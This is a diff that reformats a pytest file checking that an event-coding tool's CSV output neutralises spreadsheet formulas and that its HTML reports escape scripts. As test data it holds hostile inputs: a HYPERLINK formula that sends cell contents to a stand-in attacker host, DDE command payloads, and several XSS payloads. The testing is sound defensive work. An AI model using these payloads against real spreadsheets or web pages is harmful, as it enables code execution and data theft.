@@ -9,17 +9,16 @@ import json
 import re
 
 import pytest
+from test_events import mention
 from typer.testing import CliRunner
 
 from dyad import csvsafe
-from dyad.store import events as ev
-from dyad.report import write as report
+from dyad.analysis.relations import RelationOptions
 from dyad.cli.main import app
 from dyad.records import ActorRef, Article, Evidence, Sentence
-from dyad.analysis.relations import RelationOptions
+from dyad.report import write as report
+from dyad.store import events as ev
 from dyad.store.db import Store
-
-from test_events import mention
 
 runner = CliRunner()
 
@@ -27,15 +26,35 @@ FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'
 
 
 # --- CSV ------------------------------------------------------------------------------------
-@pytest.mark.parametrize("value, safe", [
-    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (FORMULA, "'" + FORMULA),
-    ("Pakistan", "Pakistan"), ("", ""), ("a=b", "a=b"), ("'=already", "'=already"),
-    ("-9.2", "-9.2"), ("+1", "+1"), ("-1e5", "-1e5"),  # a number in a string runs nothing
-    ("---GOV", "---GOV"), ("---", "---"), ("-", "-"),  # nor does a CAMEO code without a country
-    ("---GOV()", "'---GOV()"), ("-gov", "'-gov"), ("-A1+B2", "'-A1+B2"),
-    (-10.0, -10.0), (-3, -3), (None, None), (True, True),
-])
+@pytest.mark.parametrize(
+    "value, safe",
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        (FORMULA, "'" + FORMULA),
+        ("Pakistan", "Pakistan"),
+        ("", ""),
+        ("a=b", "a=b"),
+        ("'=already", "'=already"),
+        ("-9.2", "-9.2"),
+        ("+1", "+1"),
+        ("-1e5", "-1e5"),  # a number in a string runs nothing
+        ("---GOV", "---GOV"),
+        ("---", "---"),
+        ("-", "-"),  # nor does a CAMEO code without a country
+        ("---GOV()", "'---GOV()"),
+        ("-gov", "'-gov"),
+        ("-A1+B2", "'-A1+B2"),
+        (-10.0, -10.0),
+        (-3, -3),
+        (None, None),
+        (True, True),
+    ],
+)
 def test_safe_cell(value, safe):
     assert csvsafe.safe_cell(value) == safe
 
@@ -54,8 +73,14 @@ def test_safe_row_raw_switches(monkeypatch):
 
 
 def _hostile_event():
-    return mention("=cmd|' /C calc'!A0", doc=FORMULA, cameo="173", sentence="-2+3 said the minister.",
-                   source=ActorRef("@SUM(A1)", "USAGOV", "USA"), target=ActorRef("+Pakistan", "PAK", "PAK"))
+    return mention(
+        "=cmd|' /C calc'!A0",
+        doc=FORMULA,
+        cameo="173",
+        sentence="-2+3 said the minister.",
+        source=ActorRef("@SUM(A1)", "USAGOV", "USA"),
+        target=ActorRef("+Pakistan", "PAK", "PAK"),
+    )
 
 
 def test_code_csv_neutralises_formulas_not_numbers(monkeypatch):
@@ -84,8 +109,11 @@ def test_code_csv_neutralises_formulas_not_numbers(monkeypatch):
 def test_code_cli_csv_and_raw_csv(tmp_path, monkeypatch):
     monkeypatch.delenv(csvsafe.ENV, raising=False)
     src = tmp_path / "docs.jsonl"
-    src.write_text(json.dumps({"id": "=1+1", "text": "Pakistani police arrested Hafiz Saeed in Lahore.",
-                               "date": "2019-07-17"}) + "\n", encoding="utf-8")
+    src.write_text(
+        json.dumps({"id": "=1+1", "text": "Pakistani police arrested Hafiz Saeed in Lahore.", "date": "2019-07-17"})
+        + "\n",
+        encoding="utf-8",
+    )
     for extra, doc_id in (([], "'=1+1"), (["--raw-csv"], "=1+1")):
         out = tmp_path / "events.csv"
         r = runner.invoke(app, ["code", str(src), "--format", "csv", "-o", str(out), *extra])
@@ -98,8 +126,18 @@ def test_code_cli_csv_and_raw_csv(tmp_path, monkeypatch):
 @pytest.fixture()
 def hostile_store(db_path):
     with Store(db_path) as s:
-        art = Article(id="a1", origin="a1.txt", kind="txt", raw="x", text="x", title="-Title", date="2019-07-26",
-                      url=FORMULA, source="@Wire", doc_id=None)
+        art = Article(
+            id="a1",
+            origin="a1.txt",
+            kind="txt",
+            raw="x",
+            text="x",
+            title="-Title",
+            date="2019-07-26",
+            url=FORMULA,
+            source="@Wire",
+            doc_id=None,
+        )
         s.add_articles([(art, [Sentence("a1", 0, "x", 0, 1, 0, 1, 0)], None)])
         ev.add_events(s, [mention("m1", doc="a1", cameo="1712", source=ActorRef("=cmd()", "USAGOV", "USA"))])
     return db_path
@@ -131,32 +169,62 @@ def test_sql_csv_neutralises_formulas(db_path, monkeypatch):
     query = f"SELECT '{FORMULA.replace(chr(39), chr(39) * 2)}' AS url, -10.0 AS g, '-9.2' AS s, [1, 2] AS l, NULL AS n"
     r = runner.invoke(app, ["sql", query, "--db", db_path, "--format", "csv"])
     assert r.exit_code == 0, r.output
-    assert list(csv.reader(io.StringIO(r.stdout))) == [["url", "g", "s", "l", "n"],
-                                                       ["'" + FORMULA, "-10.0", "-9.2", "[1, 2]", ""]]
+    assert list(csv.reader(io.StringIO(r.stdout))) == [
+        ["url", "g", "s", "l", "n"],
+        ["'" + FORMULA, "-10.0", "-9.2", "[1, 2]", ""],
+    ]
     r = runner.invoke(app, ["sql", query, "--db", db_path, "--format", "csv", "--raw-csv"])
     assert list(csv.reader(io.StringIO(r.stdout)))[1][0] == FORMULA
 
 
 # --- Markdown (and HTML) report --------------------------------------------------------------
-PAYLOAD = ("<script>alert(1)</script> <img src=x onerror=alert(2)> <iframe src=\"javascript:alert(3)\"></iframe> "
-           "[click](javascript:alert(4)) | broken \\| cell & more")
+PAYLOAD = (
+    '<script>alert(1)</script> <img src=x onerror=alert(2)> <iframe src="javascript:alert(3)"></iframe> '
+    "[click](javascript:alert(4)) | broken \\| cell & more"
+)
 
 
 @pytest.fixture(scope="module")
 def payload_store(tmp_path_factory) -> str:
     path = str(tmp_path_factory.mktemp("payload") / "p.duckdb")
     arts = [
-        Article(id="a1", origin="a1.html", kind="html", raw="x", text="x", title="<script>alert('t')</script>",
-                date="2019-07-26", url="javascript:alert(5)", source="<iframe src=//evil.invalid>", doc_id=None),
-        Article(id="a2", origin="a2.html", kind="html", raw="x", text="x", title="Fine [title](javascript:x)",
-                date="2019-07-27", url="https://news.invalid/a)](javascript:alert(6)) <img src=x onerror=alert(7)>|",
-                source="Wire", doc_id=None),
+        Article(
+            id="a1",
+            origin="a1.html",
+            kind="html",
+            raw="x",
+            text="x",
+            title="<script>alert('t')</script>",
+            date="2019-07-26",
+            url="javascript:alert(5)",
+            source="<iframe src=//evil.invalid>",
+            doc_id=None,
+        ),
+        Article(
+            id="a2",
+            origin="a2.html",
+            kind="html",
+            raw="x",
+            text="x",
+            title="Fine [title](javascript:x)",
+            date="2019-07-27",
+            url="https://news.invalid/a)](javascript:alert(6)) <img src=x onerror=alert(7)>|",
+            source="Wire",
+            doc_id=None,
+        ),
     ]
     usa = ActorRef("<b onmouseover=alert(8)>Washington</b>", "USAGOV", "USA")
     ms = []
     for i, doc in enumerate(["a1", "a2", "a1", "a2"]):
-        m = mention(f"m{i}", doc=doc, date=f"2019-0{7 + i // 2}-{10 + i}", cameo="072", source=usa,
-                    sentence=f"Washington agreed to fund it. {PAYLOAD}", sentence_id=f"{doc}:{i}")
+        m = mention(
+            f"m{i}",
+            doc=doc,
+            date=f"2019-0{7 + i // 2}-{10 + i}",
+            cameo="072",
+            source=usa,
+            sentence=f"Washington agreed to fund it. {PAYLOAD}",
+            sentence_id=f"{doc}:{i}",
+        )
         ms.append(m.__class__(**{**m.__dict__, "evidence": Evidence("<img src=y onerror=alert(9)>", 0, 4)}))
     with Store(path) as s:
         s.add_articles([(a, [Sentence(a.id, 0, "x", 0, 1, 0, 1, 0)], None) for a in arts])
@@ -196,8 +264,10 @@ def test_report_markdown_escapes_article_html(payload_store, tmp_path):
     page = MarkdownIt("commonmark").enable("table").render(text).lower()
     for tag in ("<script", "<iframe", "<b "):
         assert tag not in page, tag
-    assert re.findall(r"<img [^>]*>", page) == ['<img src="r-index.svg" alt="net cooperation index" />',
-                                                '<img src="r-volume.svg" alt="events by quad class" />']
+    assert re.findall(r"<img [^>]*>", page) == [
+        '<img src="r-index.svg" alt="net cooperation index" />',
+        '<img src="r-volume.svg" alt="events by quad class" />',
+    ]
     hrefs = re.findall(r'href="([^"]*)"', page)
     assert hrefs and all(h.startswith("https://news.invalid/") for h in hrefs), hrefs
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "[click](javascript:alert(4))" in page
@@ -302,5 +372,5 @@ def test_safe_output_dictwriter_writerows_is_safe_too():
 
     out = io.StringIO()
     writer = DictWriter(out, ["url", "g"], raw=False, lineterminator="\n")
-    writer.writerows([{"url": "=HYPERLINK(\"http://x.invalid\")", "g": -2.0}])
-    assert out.getvalue() == "\"'=HYPERLINK(\"\"http://x.invalid\"\")\",-2.0\n"
+    writer.writerows([{"url": '=HYPERLINK("http://x.invalid")', "g": -2.0}])
+    assert out.getvalue() == '"\'=HYPERLINK(""http://x.invalid"")",-2.0\n'
